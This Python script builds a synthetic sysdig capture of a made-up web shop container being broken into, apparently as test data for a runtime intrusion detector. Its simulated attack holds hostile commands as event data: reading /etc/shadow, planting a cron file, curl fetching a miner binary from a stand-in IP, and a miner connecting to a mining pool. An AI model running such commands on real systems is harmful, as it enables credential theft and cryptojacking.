#!/usr/bin/env python3
"""Writes tests/data/demo.scap: a minute of a made-up web shop that gets broken into.

A container `shop` runs an application with a hole in it. Someone uses the hole to start a shell, looks
at password hashes, leaves a file, a timer and a miner behind. Around that, the host and the shop do
what they do every day; none of it may raise an alert. Every byte of the output is decided here, so the
same script writes the same file. The layout is that of sysdig 0.29, which can be used to look at it.
"""
import gzip
import json
import struct
import sys

START_NS = 1768446727_000000000  # 2026-01-15 03:12:07 UTC
SHOP = "5f1d0c7b3a92" + "e4" * 26
SHOP_CGROUPS = "".join(f"{c}=/docker/{SHOP}\0" for c in ("cpuset", "cpu", "memory", "pids"))
HOST_CGROUPS = "cpuset=/\0cpu=/system.slice\0memory=/system.slice\0pids=/system.slice\0"

CLOSE, SOCKET, CONNECT, PROCEXIT, CLONE, CONTAINER, EXECVE, OPENAT = 4, 18, 22, 186, 222, 272, 292, 306
RDONLY, WRONLY, CREAT, TRUNC = 1, 2, 4, 256
AT_FDCWD = -100
CHILD_IN_PIDNS = 1 << 29
ENOENT = -2
INET, INET_SOCK = 2, 3


def u8(v):
    return struct.pack("<B", v)


def u16(v):
    return struct.pack("<H", v)


def u32(v):
    return struct.pack("<I", v & 0xFFFFFFFF)


def i64(v):
    return struct.pack("<q", v)


def text(s):
    return s.encode() + b"\0"


def counted(s):
    raw = s if isinstance(s, bytes) else s.encode()
    return u16(len(raw)) + raw


def address(ip, port):
    return bytes(map(int, ip.split("."))) + u16(port)


def args_bytes(args):
    return "".join(a + "\0" for a in args).encode()


class Process:
    def __init__(self, tid, parent, exe, args=(), contained=False, cwd="/", uid=0, tty=0):
        self.tid, self.parent, self.exe, self.args = tid, parent, exe, list(args)
        self.contained, self.cwd, self.uid, self.tty = contained, cwd, uid, tty
        self.vtid = tid - 4100 if contained else tid
        self.next_fd = 3

    @property
    def comm(self):
        return self.exe.rsplit("/", 1)[-1][:15]

    @property
    def cgroups(self):
        return SHOP_CGROUPS if self.contained else HOST_CGROUPS


class Capture:
    def __init__(self):
        self.out = bytearray()
        self.now = START_NS
        self.cpu = 0

    def block(self, kind, body):
        body += b"\0" * (-len(body) % 4)
        size = len(body) + 12
        self.out += struct.pack("<II", kind, size) + body + u32(size)

    def event(self, kind, tid, *params):
        self.now += 37_000 + (self.now >> 10) % 61_000
        lengths = b"".join(u16(len(p)) for p in params)
        body = lengths + b"".join(params)
        header = struct.pack("<QQIHI", self.now, tid & 0xFFFFFFFFFFFFFFFF, 26 + len(body), kind, len(params))
        self.block(0x216, u16(self.cpu) + header + body)

    def sleep(self, seconds):
        self.now += int(seconds * 1e9)

    def preamble(self, processes):
        self.block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 2, -1))
        self.block(0x201, struct.pack("<IQQ128s32s", 2, 8 << 30, 32768, b"edge-7", b""))
        users = b""
        for uid, name, home, shell in ((0, "root", "/root", "/bin/bash"), (33, "www-data", "/var/www", "/bin/sh"),
                                       (1000, "akira", "/home/akira", "/bin/bash")):
            users += self.sized(u8(0) + u32(uid) + u32(uid) + counted(name) + counted(home) + counted(shell))
            users += self.sized(u8(1) + u32(uid) + counted(name))
        self.block(0x220, users)
        self.block(0x215, b"".join(self.sized(self.thread(p)) for p in processes))

    @staticmethod
    def sized(entry):
        return u32(len(entry) + 4) + entry

    @staticmethod
    def thread(p):
        parent = p.parent.tid if p.parent else 0
        ids = b"".join(map(i64, (p.tid, p.tid, parent, p.tid, p.tid)))
        names = (counted(p.comm) + counted(p.exe) + counted(p.exe) + counted(args_bytes(p.args)) +
                 counted(p.cwd))
        numbers = i64(1024) + u32(0) + u32(p.uid) + u32(p.uid) + u32(52000) + u32(21000) + u32(0)
        return (ids + names + numbers + i64(0) + i64(2100) + counted(b"") + i64(p.vtid) + i64(p.vtid) +
                counted(p.cgroups) + counted("/") + u32(-1))

    def container(self):
        about = {"Mounts": [], "cpu_period": 100000, "cpu_quota": 0, "cpu_shares": 1024, "env": [],
                 "id": SHOP[:12], "image": "registry.example/shop:1.4",
                 "imagedigest": "sha256:" + "7c" * 32, "imageid": "a9" * 32,
                 "imagerepo": "registry.example/shop", "imagetag": "1.4", "ip": "172.17.0.2",
                 "is_pod_sandbox": False, "labels": {"team": "store"}, "memory_limit": 0,
                 "metadata_deadline": 0, "name": "shop", "port_mappings": [], "privileged": False,
                 "swap_limit": 0, "type": 0}
        self.event(CONTAINER, -1, text(json.dumps({"container": about}, separators=(",", ":"))))

    def context(self, p):
        """The middle of what clone and execve carry."""
        parent = p.parent.tid
        return (text(p.exe), args_bytes(p.args), i64(p.tid), i64(p.tid), i64(parent), text(p.cwd),
                i64(1024), i64(0), i64(120), u32(52000), u32(4100), u32(0), text(p.comm),
                p.cgroups.encode())

    def clone(self, parent, tid):
        child = Process(tid, parent, parent.exe, parent.args, parent.contained, parent.cwd, parent.uid,
                        parent.tty)
        flags = CHILD_IN_PIDNS if parent.contained else 0
        self.event(CLONE, parent.tid)
        for res, p in ((child.vtid, parent), (0, child)):
            facts = Process(p.tid, p.parent or p, p.exe, p.args, p.contained, p.cwd, p.uid)
            self.event(CLONE + 1, p.tid, i64(res), *self.context(facts), u32(flags), u32(p.uid), u32(p.uid),
                       i64(p.vtid), i64(p.vtid))
        return child

    def execve(self, p, path, *args):
        self.event(EXECVE, p.tid, text(path))
        p.exe, p.args, p.next_fd = path, list(args), 3
        environment = b"PATH=/usr/sbin:/usr/bin:/sbin:/bin\0HOME=/root\0"
        self.event(EXECVE + 1, p.tid, i64(0), *self.context(p), environment, u32(p.tty), i64(p.tid),
                   u32(-1), u32(0))

    def spawn(self, parent, tid, path, *args):
        child = self.clone(parent, tid)
        self.execve(child, path, *args)
        for library in ("/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6"):
            self.open(child, library)
        return child

    def open(self, p, path, flags=RDONLY, error=0):
        fd = error or p.next_fd
        opening = (i64(AT_FDCWD), text(path), u32(flags), u32(0o644 if flags & CREAT else 0))
        self.event(OPENAT, p.tid, *opening)
        self.event(OPENAT + 1, p.tid, i64(fd), *opening, u32(0x35))
        if not error:
            self.event(CLOSE, p.tid, i64(fd))
            self.event(CLOSE + 1, p.tid, i64(0))

    def connect(self, p, ip, port, source):
        fd = p.next_fd
        p.next_fd += 1
        local = address("172.17.0.2" if p.contained else "192.0.2.10", source)
        self.event(SOCKET, p.tid, u32(INET), u32(1), u32(6))
        self.event(SOCKET + 1, p.tid, i64(fd))
        self.event(CONNECT, p.tid, i64(fd), u8(INET) + address(ip, port))
        self.event(CONNECT + 1, p.tid, i64(0), u8(INET) + local + address(ip, port))

    def exit(self, p, status=0):
        self.event(PROCEXIT, p.tid, i64(status), i64(status), u8(0), u8(0))


def everyday(capture, shop, sshd, cron, turn):
    """What goes on all the time, and is nobody's business."""
    capture.cpu = turn % 2
    for page in ("index", "cart", "item", "about"):
        capture.open(shop, f"/app/views/{page}.html")
    capture.open(shop, "/app/views/favicon.ico", error=ENOENT)
    capture.open(shop, f"/var/log/shop/access.{turn % 3}.log", WRONLY | CREAT)
    capture.connect(shop, "172.17.0.3", 5432, 40000 + turn)
    if turn % 4 == 0:
        for file in ("/etc/passwd", "/etc/shadow", "/etc/pam.d/sshd"):
            capture.open(sshd, file)
    if turn % 5 == 0:
        backup = capture.spawn(cron, 5000 + turn, "/usr/bin/find", "/srv", "-newer", "/var/backups/last")
        capture.open(backup, "/srv")
        capture.open(backup, "/var/backups/last", WRONLY | CREAT | TRUNC)
        capture.exit(backup)
    capture.sleep(0.7)


def break_in(capture, shop):
    """Step by step, yielding in between."""
    shell = capture.spawn(shop, 4187, "/bin/sh", "-c", "id; cat /etc/shadow; touch /kinsing")
    yield
    reader = capture.spawn(shell, 4188, "/bin/cat", "/etc/shadow")
    capture.open(reader, "/etc/shadow")
    capture.exit(reader)
    yield
    dropper = capture.spawn(shell, 4189, "/bin/touch", "/kinsing")
    capture.open(dropper, "/kinsing", WRONLY | CREAT)
    capture.exit(dropper)
    yield
    capture.open(shell, "/etc/cron.d/refresh", WRONLY | CREAT | TRUNC)
    fetcher = capture.spawn(shell, 4190, "/usr/bin/curl", "-so", "/tmp/cnrig", "http://203.0.113.9/cnrig")
    capture.connect(fetcher, "203.0.113.9", 80, 51900)
    capture.open(fetcher, "/tmp/cnrig", WRONLY | CREAT | TRUNC)
    capture.exit(fetcher)
    yield
    miner = capture.clone(shell, 4191)
    capture.execve(miner, "/tmp/cnrig", "-o", "stratum+tcp://pool.example:3333")
    capture.connect(miner, "198.51.100.7", 3333, 51902)
    capture.exit(shell)
    yield


def main():
    init = Process(1, None, "/sbin/init")
    sshd = Process(702, init, "/usr/sbin/sshd", ["-D"])
    cron = Process(655, init, "/usr/sbin/cron", ["-f"])
    shim = Process(4090, init, "/usr/bin/containerd-shim-runc-v2", ["-namespace", "moby"])
    shop = Process(4101, shim, "/usr/local/bin/node", ["/app/server.js"], contained=True, cwd="/app")

    capture = Capture()
    capture.preamble([init, cron, sshd, shim, shop])
    capture.container()
    steps = break_in(capture, shop)
    for turn in range(60):
        everyday(capture, shop, sshd, cron, turn)
        if turn >= 20 and turn % 4 == 0:
            next(steps, None)
    with open(sys.argv[1], "wb") as file:
        file.write(gzip.compress(bytes(capture.out), mtime=0))


if __name__ == "__main__":
    main()
